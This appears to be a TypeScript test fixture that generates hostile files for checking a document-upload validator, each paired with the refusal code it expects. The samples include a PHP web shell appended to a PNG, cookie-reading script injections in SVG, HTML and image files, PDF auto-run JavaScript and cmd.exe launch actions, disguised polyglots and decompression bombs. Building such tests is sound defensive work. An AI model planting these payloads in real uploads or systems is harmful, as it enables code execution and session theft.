import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { PdfFile } from "@/lib/digitisation/pdf-objects";
import { Chance } from "@/tests/chance";

/** A file as somebody might send it to do harm, and what may come of it. */
export type Hostile = Readonly<{ kind: string; name: string; bytes: Uint8Array; /** the refusals that are right; null when pages drawn anew are right too */ refusals: readonly string[]; mayPass: boolean; /** milliseconds after which it is ended, where that is what is tried */ time?: number }>;

const latin = (text: string) => Buffer.from(text, "latin1");
const joined = (...parts: (string | Uint8Array)[]) => new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === "string" ? latin(part) : part))));

type Made = Readonly<{ catalog?: string; page?: string; content?: Uint8Array; resources?: (file: PdfFile) => string; box?: string; more?: (file: PdfFile) => string; kids?: (page: number, pages: number) => string }>;

/** A PDF of one page with what is given added. */
export function pdf(made: Made = {}): Uint8Array {
  const file = new PdfFile();
  const pages = file.reserve();
  const content = file.addStream("", made.content ?? latin("0 0 0 rg 72 72 200 20 re f 72 120 300 12 re f"), "DEFLATE");
  const more = made.more?.(file) ?? "";
  const page = file.add(`<< /Type /Page /Parent ${pages} 0 R /MediaBox [${made.box ?? "0 0 595 842"}] /Resources << ${made.resources?.(file) ?? ""} >> /Contents ${content} 0 R ${made.page ?? ""} >>`);
  file.put(pages, `<< /Type /Pages ${made.kids?.(page, pages) ?? `/Kids [${page} 0 R] /Count 1`} >>`);
  const catalog = file.add(`<< /Type /Catalog /Pages ${pages} 0 R ${made.catalog ?? ""} ${more} >>`);
  return file.finish(catalog, file.add("<< /Producer (test) >>"));
}

/** A ZIP with one stored file. */
function zip(): Uint8Array {
  const name = latin("x.txt");
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length, 16);
  return joined(local, name, central, name, end);
}

const CRC = Array.from({ length: 256 }, (_, start) => {
  let value = start;
  for (let bit = 0; bit < 8; bit += 1) value = value & 1 ? 0xedb88320 ^ (value >>> 1) : value >>> 1;
  return value >>> 0;
});
function chunk(type: string, data: Uint8Array): Uint8Array {
  const body = joined(type, data);
  let crc = 0xffffffff;
  for (const byte of body) crc = ((CRC[(crc ^ byte) & 255] ?? 0) ^ (crc >>> 8)) >>> 0;
  const length = Buffer.alloc(4);
  const sum = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE((crc ^ 0xffffffff) >>> 0);
  return joined(length, body, sum);
}

const PNG_HEAD = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a);
/** A grey PNG that says it has this size, with rows packed from `packed` bytes of nothing. */
function png(width: number, height: number, packed: number, extra: Uint8Array = new Uint8Array()): Uint8Array {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  return joined(PNG_HEAD, chunk("IHDR", head), extra, chunk("IDAT", deflateSync(Buffer.alloc(packed), { level: 9 })), chunk("IEND", new Uint8Array()));
}

async function jpeg(): Promise<Buffer> {
  return sharp({ create: { width: 400, height: 560, channels: 3, background: "#ffffff" } }).composite([{ input: { create: { width: 200, height: 20, channels: 3, background: "#000000" } }, left: 60, top: 90 }]).jpeg().toBuffer();
}

/** The JPEG with its frame header saying another size. */
function resized(image: Buffer, width: number, height: number): Uint8Array {
  const copy = Buffer.from(image);
  const frame = copy.indexOf(Buffer.from([0xff, 0xc0]));
  copy.writeUInt16BE(height, frame + 5);
  copy.writeUInt16BE(width, frame + 7);
  return new Uint8Array(copy);
}

const SCRIPT = "<script>alert(document.cookie)</script>";
const js = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

/** An object stream that hides a script, packed. */
function hiddenScript(name: string): Uint8Array {
  const inside = latin(`9 0 << /S /${name} /JS (app.alert\\(1\\)) >>`);
  return pdf({ more: (file) => `/Names ${file.addStream("/Type /ObjStm /N 1 /First 4", inside, "DEFLATE")} 0 R` });
}

function picturePdf(width: number, height: number, entries: string, bytes: Uint8Array): Uint8Array {
  return pdf({ content: latin("q 595 0 0 842 0 0 cm /Im Do Q"), resources: (file) => `/XObject << /Im ${file.addStream(`/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray ${entries}`, bytes, "PACKED")} 0 R >>` });
}

/** More than thirty kinds of files that were made to harm. */
export async function hostileFiles(): Promise<readonly Hostile[]> {
  const chance = new Chance(4);
  const photo = await jpeg();
  const noise = Uint8Array.from({ length: 60_000 }, () => chance.whole(0, 255));
  const good = pdf();
  const refused = (kind: string, name: string, bytes: Uint8Array, ...refusals: string[]): Hostile => ({ kind, name, bytes, refusals, mayPass: false });
  const harmless = (kind: string, name: string, bytes: Uint8Array, ...refusals: string[]): Hostile => ({ kind, name, bytes, refusals, mayPass: true });
  const active = (kind: string, made: Made) => refused(kind, "a.pdf", pdf(made), "PDF_ACTIVE");
  return [
    refused("empty", "a.pdf", new Uint8Array(), "FILE_EMPTY"),
    refused("text named pdf", "a.pdf", latin("Đơn đề nghị"), "FILE_KIND_UNKNOWN"),
    refused("program named pdf", "a.pdf", joined("MZ", noise), "FILE_KIND_UNKNOWN"),
    refused("svg", "a.svg", latin(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), "FILE_KIND_UNKNOWN"),
    refused("svg named png", "a.png", latin(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), "FILE_KIND_UNKNOWN"),
    refused("web page named jpg", "a.jpg", latin(`<html>${SCRIPT}</html>`), "FILE_KIND_UNKNOWN"),
    refused("gif with script", "a.png", joined("GIF89a/*", noise, `*/=1;${SCRIPT}`), "FILE_KIND_UNKNOWN"),
    refused("program before pdf", "a.pdf", joined("MZ\0\0", good), "FILE_KIND_UNKNOWN"),
    refused("png named pdf", "a.pdf", png(10, 10, 110), "FILE_NAME_LIES"),
    refused("pdf named png", "a.png", good, "FILE_NAME_LIES"),
    refused("name turned round", "hoso\u202efdp.exe", good, "FILE_NAME_LIES"),
    refused("test virus in pdf", "a.pdf", joined(good.subarray(0, 15), `% X5O!P%@AP[4\\PZX54(P^)7CC)7}$${"EICAR-STANDARD"}-ANTIVIRUS-TEST-FILE!$H+H*\n`, good.subarray(15)), "FILE_INFECTED"),
    refused("pdf and zip", "a.pdf", joined(good, zip()), "FILE_BROKEN", "FILE_IS_TWO"),
    refused("pdf and zip with end", "a.pdf", joined(good, zip(), "\n%%EOF\n"), "FILE_IS_TWO"),
    refused("pdf with web page at its head", "a.pdf", joined("%PDF-1.7\n<html>", SCRIPT, "</html>\n", good), "FILE_IS_TWO"),
    refused("pdf with web page after its end", "a.pdf", joined(good, `<html>${SCRIPT}</html>\n%%EOF\n`), "FILE_IS_TWO"),
    refused("jpeg and zip", "a.jpg", joined(photo, zip(), Uint8Array.of(0xff, 0xd9)), "FILE_IS_TWO"),
    refused("jpeg and program", "a.jpg", joined(photo, "MZ", noise.subarray(0, 900), Uint8Array.of(0xff, 0xd9)), "FILE_IS_TWO"),
    refused("jpeg and pdf", "a.jpg", joined(photo, good, Uint8Array.of(0xff, 0xd9)), "FILE_IS_TWO"),
    refused("png and php", "a.png", joined(png(10, 10, 110), "<?php system($_GET['c']); ?>"), "FILE_IS_TWO"),
    active("script on opening", { catalog: `/OpenAction ${js}` }),
    active("script in the page's events", { page: `/AA << /O ${js} >>` }),
    active("script by another spelling", { catalog: "/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>" }),
    refused("script in an object stream", "a.pdf", hiddenScript("JavaScript"), "PDF_ACTIVE"),
    refused("script in an object stream, spelt otherwise", "a.pdf", hiddenScript("Java#53cript"), "PDF_ACTIVE"),
    active("program started", { catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
    active("attachment", { more: (file) => `/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x.exe) /EF << /F ${file.addStream("/Type /EmbeddedFile", noise, "DEFLATE")} 0 R >> >>] >> >>` }),
    active("XFA form", { more: (file) => `/AcroForm << /XFA ${file.addStream("", latin("<xdp/>"), "DEFLATE")} 0 R >>` }),
    active("form that sends", { page: "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /SubmitForm /F (http://example.vn) >> >>]" }),
    active("other file opened", { catalog: "/OpenAction << /S /GoToR /F (//example.vn/share/x.pdf) >>" }),
    active("film", { page: "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] >>]" }),
    refused("encrypted pdf", "a.pdf", joined(latin(Buffer.from(good).toString("latin1").replace("/Info", "/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >> /Info"))), "PDF_ENCRYPTED"),
    refused("object stream that swells", "a.pdf", pdf({ more: (file) => `/Names ${file.addStream("/Type /ObjStm /N 1 /First 4", Buffer.alloc(80 * 1024 * 1024, 32), "DEFLATE")} 0 R` }), "PDF_HIDES_OBJECTS"),
    refused("object stream that is not deflate", "a.pdf", pdf({ more: (file) => `/Names ${file.addStream("/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode", noise, "PACKED")} 0 R` }), "PDF_HIDES_OBJECTS"),
    refused("cut off pdf", "a.pdf", good.subarray(0, good.length - 300), "FILE_BROKEN"),
    refused("png of 30,000 × 30,000", "a.png", png(30_000, 30_000, 1_000_000), "IMAGE_TOO_LARGE"),
    refused("jpeg of 30,000 × 30,000", "a.jpg", resized(photo, 30_000, 30_000), "IMAGE_TOO_LARGE"),
    refused("png without a head", "a.png", joined(PNG_HEAD, noise.subarray(0, 200), "IEND"), "IMAGE_HEAD_BROKEN"),
    // From here on the process decides.
    refused("cut off jpeg with an end", "a.jpg", joined(photo.subarray(0, photo.length / 2), Uint8Array.of(0xff, 0xd9)), "FILE_UNREADABLE"),
    refused("png whose rows are missing", "a.png", png(2_000, 2_000, 50_000), "FILE_UNREADABLE"),
    harmless("png of 64 million white pixels", "a.png", png(8_000, 8_000, 8_001 * 8_000), "FILE_TOO_HEAVY", "FILE_TOO_SLOW"),
    harmless("small png that unpacks to 150 MB", "a.png", png(10, 10, 150_000_000), "FILE_UNREADABLE"),
    harmless("script in jpeg comment", "a.jpg", joined(photo.subarray(0, 2), Uint8Array.of(0xff, 0xfe, (SCRIPT.length + 1100) >> 8, (SCRIPT.length + 1100) & 255), " ".repeat(1098), SCRIPT, photo.subarray(2)), "FILE_IS_TWO"),
    harmless("script in png text", "a.png", png(10, 10, 110, chunk("tEXt", joined(`Comment\0${" ".repeat(1200)}${SCRIPT}`)))),
    harmless("pdf of noise", "a.pdf", joined("%PDF-1.7\n", noise, "\n%%EOF\n"), "FILE_UNREADABLE"),
    harmless("pdf whose contents unpack to 300 MB", "a.pdf", pdf({ content: Buffer.alloc(300_000_000, 32) }), "FILE_TOO_HEAVY", "FILE_TOO_SLOW", "FILE_UNREADABLE"),
    harmless("pdf with a picture of 30,000 × 30,000", "a.pdf", picturePdf(30_000, 30_000, "/BitsPerComponent 8 /Filter /FlateDecode", deflateSync(Buffer.alloc(90_000_000))), "FILE_UNREADABLE", "FILE_TOO_HEAVY"),
    harmless("pdf with broken JPEG 2000", "a.pdf", picturePdf(500, 500, "/Filter /JPXDecode", joined("\0\0\0\x0cjP  \r\n\x87\n", noise)), "FILE_UNREADABLE"),
    harmless("pdf with broken JBIG2", "a.pdf", picturePdf(500, 500, "/BitsPerComponent 1 /Filter /JBIG2Decode", noise), "FILE_UNREADABLE"),
    refused("pdf of 5,000 pages", "a.pdf", pdf({ kids: (page) => `/Kids [${`${page} 0 R `.repeat(5_000)}] /Count 5000` }), "PDF_TOO_LONG"),
    refused("pdf page of five metres", "a.pdf", pdf({ box: "0 0 14400 14400" }), "PDF_TOO_LONG"),
    harmless("pdf whose pages go round", "a.pdf", pdf({ kids: (_page, pages) => `/Kids [${pages} 0 R] /Count 1` }), "FILE_UNREADABLE", "FILE_TOO_SLOW"),
    harmless("pdf drawing that draws itself", "a.pdf", pdf({ content: latin("/Fm Do"), resources: (file) => {
      const own = file.reserve() + 1;
      return `/XObject << /Fm ${file.addStream(`/Type /XObject /Subtype /Form /BBox [0 0 500 500] /Resources << /XObject << /Fm ${own} 0 R >> >>`, latin("/Fm Do /Fm Do"), "DEFLATE")} 0 R >>`;
    } }), "FILE_UNREADABLE", "FILE_TOO_SLOW", "FILE_TOO_HEAVY"),
    { ...refused("pdf of four million strokes", "a.pdf", pdf({ content: latin("0 0 m 595 842 l S\n".repeat(4_000_000)) }), "FILE_TOO_SLOW", "FILE_TOO_HEAVY"), time: 2_500 },
  ];
}
